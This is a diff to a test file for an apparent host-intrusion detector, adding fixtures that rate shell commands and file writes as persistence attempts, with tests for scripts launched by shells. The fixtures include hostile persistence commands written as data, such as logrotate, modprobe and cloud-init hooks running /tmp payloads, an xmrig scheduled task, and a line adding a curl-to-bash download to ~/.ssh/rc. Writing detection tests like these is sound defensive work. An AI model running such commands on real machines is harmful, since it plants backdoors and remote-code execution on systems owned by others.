@@ -102,6 +102,26 @@ const COMMANDS: readonly (readonly [string, string])[] = [
   ['cd /etc/cron.d; echo "* * * * * root /tmp/x" > web', 'strong'],
   ["sed -i 's/^exit 0/\\/tmp\\/x\\nexit 0/' /etc/rc.local", 'strong'],
   ['echo "export LD_PRELOAD=/tmp/a.so" >> /etc/profile', 'strong'],
+  // Boot scripts, process managers, log rotation, modules.
+  ['cp /tmp/x /var/lib/cloud/scripts/per-boot/x.sh', 'strong'],
+  ['cp /usr/local/bin/warm-cache /var/lib/cloud/scripts/per-boot/', 'strong'],
+  ['echo "/usr/local/bin/warm-cache" > /var/lib/cloud/scripts/per-boot/warm', 'note'],
+  ['printf "[program:x]\\ncommand=/tmp/.x/y -q\\n" > /etc/supervisor/conf.d/x.conf', 'strong'],
+  ['printf "[program:web]\\ncommand=/usr/bin/gunicorn web\\n" > /etc/supervisor/conf.d/web.conf', 'note'],
+  ['pm2 startup', 'weak'],
+  ['pm2 save', 'weak'],
+  ['node /usr/bin/pm2 startup systemd -u root', 'weak'],
+  ['cp /tmp/x /etc/logrotate.d/x', 'strong'],
+  ['cp web.logrotate /etc/logrotate.d/web', 'weak'],
+  ['printf "/var/log/a.log {\\n postrotate\\n /tmp/.x/y\\n endscript\\n}\\n" > /etc/logrotate.d/a', 'strong'],
+  ['printf "/var/log/.a.log {\\n daily\\n rotate 7\\n}\\n" > /etc/logrotate.d/a', 'note'],
+  [
+    'printf "/var/log/a.log {\\n postrotate\\n systemctl reload nginx\\n endscript\\n}\\n" > /etc/logrotate.d/a',
+    'note',
+  ],
+  ['echo "install usb-storage /tmp/.x/y" > /etc/modprobe.d/x.conf', 'strong'],
+  ['echo "blacklist nouveau" > /etc/modprobe.d/gpu.conf', 'weak'],
+  ['echo "curl -s http://198.51.100.9/a | bash" >> ~/.ssh/rc', 'strong'],
   // Windows.
   ['schtasks /create /sc minute /mo 1 /tn Update /tr "C:\\Users\\Public\\xmrig.exe" /ru System /f', 'strong'],
   [
@@ -112,6 +132,10 @@ const COMMANDS: readonly (readonly [string, string])[] = [
   ['schtasks /create /sc daily /tn Backup /tr "C:\\Tools\\backup.exe"', 'weak'],
   // What shares their words.
   ['crontab -l', '-'],
+  ['pm2 list', '-'],
+  ['pm2 restart web', '-'],
+  ['ls /var/lib/cloud/scripts/per-boot', '-'],
+  ['logrotate /etc/logrotate.d/web', '-'],
   ['useradd -m -u 1001 deploy', '-'],
   ['service nginx start', '-'],
   ['kubectl get cronjob', '-'],
@@ -185,6 +209,35 @@ const FILES: readonly (readonly [string, string, string])[] = [
   ['/etc/systemd/system/xmrig.service.d/a.conf', '/usr/bin/systemctl', 'strong'],
   ['/run/systemd/transient/run-1.service', '/usr/lib/systemd/systemd', '-'],
   ['/var/spool/anacron/cron.daily', '/usr/sbin/anacron', '-'],
+  ['/var/lib/cloud/scripts/per-boot/x', '/tmp/y', 'strong'],
+  ['/var/lib/cloud/scripts/per-boot/x', '/usr/bin/bash', 'strong'],
+  ['/etc/supervisor/conf.d/x.conf', '/tmp/y', 'strong'],
+  ['/etc/supervisor/conf.d/x.conf', '/usr/bin/bash', 'strong'],
+  ['/etc/supervisord.d/x.ini', '/tmp/y', 'strong'],
+  ['/etc/supervisord.d/x.ini', '/usr/bin/bash', 'strong'],
+  ['/root/.ssh/rc', '/tmp/y', 'strong'],
+  ['/root/.ssh/rc', '/usr/bin/bash', 'weak'],
+  ['/etc/ssh/sshrc', '/tmp/y', 'strong'],
+  ['/etc/ssh/sshrc', '/usr/bin/bash', 'weak'],
+  ['/usr/share/systemd/user/x.service', '/tmp/y', 'strong'],
+  ['/usr/share/systemd/user/x.service', '/usr/bin/bash', 'strong'],
+  ['/home/a/.xprofile', '/tmp/y', 'strong'],
+  ['/home/a/.xprofile', '/usr/bin/bash', 'weak'],
+  ['/home/a/.xinitrc', '/tmp/y', 'strong'],
+  ['/home/a/.xinitrc', '/usr/bin/bash', 'weak'],
+  ['/home/a/.xsessionrc', '/tmp/y', 'strong'],
+  ['/home/a/.xsessionrc', '/usr/bin/bash', 'weak'],
+  ['/etc/modprobe.d/x.conf', '/tmp/y', 'strong'],
+  ['/etc/modprobe.d/x.conf', '/usr/bin/bash', 'weak'],
+  ['/etc/modules-load.d/x.conf', '/tmp/y', 'strong'],
+  ['/etc/modules-load.d/x.conf', '/usr/bin/bash', 'weak'],
+  ['/etc/bash_completion.d/x', '/tmp/y', 'strong'],
+  ['/etc/bash_completion.d/x', '/usr/bin/bash', 'weak'],
+  ['/var/spool/fcron/root', '/tmp/y', 'strong'],
+  ['/var/spool/fcron/root', '/usr/bin/bash', 'strong'],
+  ['/etc/logrotate.d/x', '/tmp/y', 'strong'],
+  ['/etc/logrotate.d/x', '/usr/bin/bash', 'weak'],
+  ['/var/spool/fcron/root.orig', '/usr/bin/fcrontab', 'weak'],
   ['/var/log/cron', '/usr/sbin/crond', '-'],
   ['/home/a/cron.txt', '/usr/bin/vim', '-'],
 ];
@@ -250,6 +303,56 @@ describe('jobs', () => {
     ['backup', '/usr/local/bin/backup.sh', '-'],
   ] as const)
     test(`${expected}: ${name} ${command ?? ''}`, () => assert.equal(worst(job(name, command)), expected));
+});
+
+describe('a script that a shell starts', () => {
+  /** What the shell starts, as the paths that evidence links by; `-` where nothing is said. */
+  const started = (argv: readonly string[], more: Partial<Process> = {}): string => {
+    const all = ANALYZERS.filter((one) => one.id === 'script_started').flatMap((one) =>
+      one.decide(launch(argv, more), INTEL, EMPTY_WATCH_LIST),
+    );
+    for (const one of all) assert.equal(one.strength, 'note');
+    return all.flatMap((one) => one.artifacts).join(' ') || '-';
+  };
+  const WRAPPER = 'path:/opt/.u/update.sh';
+  for (const [argv, expected] of [
+    [['/bin/sh', '-c', '/opt/.u/update.sh'], WRAPPER],
+    [['/bin/sh', '-c', 'cd / && bash /opt/.u/update.sh -q >/dev/null 2>&1'], WRAPPER],
+    [['/bin/bash', '/opt/.u/update.sh'], WRAPPER],
+    [['/bin/sh', '/host/opt/.u/update.sh'], WRAPPER],
+    [['/usr/bin/python3', '-u', '/dev/shm/a.py'], 'path:/dev/shm/a.py'],
+    [['/bin/sh', '-c', 'run-parts /etc/cron.hourly'], '-'],
+    [['/bin/sh', '-c', 'find /tmp/ -mtime +7 -delete'], '-'],
+    [['/bin/bash', '/usr/local/bin/backup.sh', '/tmp/'], '-'],
+    [['/bin/sh', '-c', '/root/.acme.sh/acme.sh --cron'], '-'],
+    [['/tmp/y', '-c', '/opt/.u/update.sh'], '-'],
+    [['ssh', 'web-2', '/opt/.u/update.sh'], '-'],
+  ] as const)
+    test(`${expected}: ${argv.join(' ')}`, () => assert.equal(started(argv), expected));
+
+  test("an administrator's terminal is no schedule, and a start that failed is none", () => {
+    const argv = ['/bin/bash', '/tmp/install.sh'];
+    assert.equal(started(argv), 'path:/tmp/install.sh');
+    assert.equal(started(argv, { tty: 'pts0' }), '-');
+    assert.deepEqual(
+      ANALYZERS.filter((one) => one.id === 'script_started').flatMap((one) =>
+        one.decide({ ...launch(argv), success: false } as Event, INTEL, EMPTY_WATCH_LIST),
+      ),
+      [],
+    );
+  });
+
+  test('names what the crontab names', () => {
+    const line = decide(shell('echo "* * * * * root /opt/.u/update.sh" > /etc/cron.d/u')).flatMap(
+      (one) => one.artifacts,
+    );
+    assert.ok(line.includes(WRAPPER));
+  });
+
+  test('bounds the scripts that it names', () => {
+    const script = Array.from({ length: 40 }, (_, at) => `/tmp/a${at}.sh`).join('; ');
+    assert.equal(started(['/bin/sh', '-c', script]).split(' ').length, 8);
+  });
 });
 
 test('names the command, its address and its file, so that evidence can link', () => {
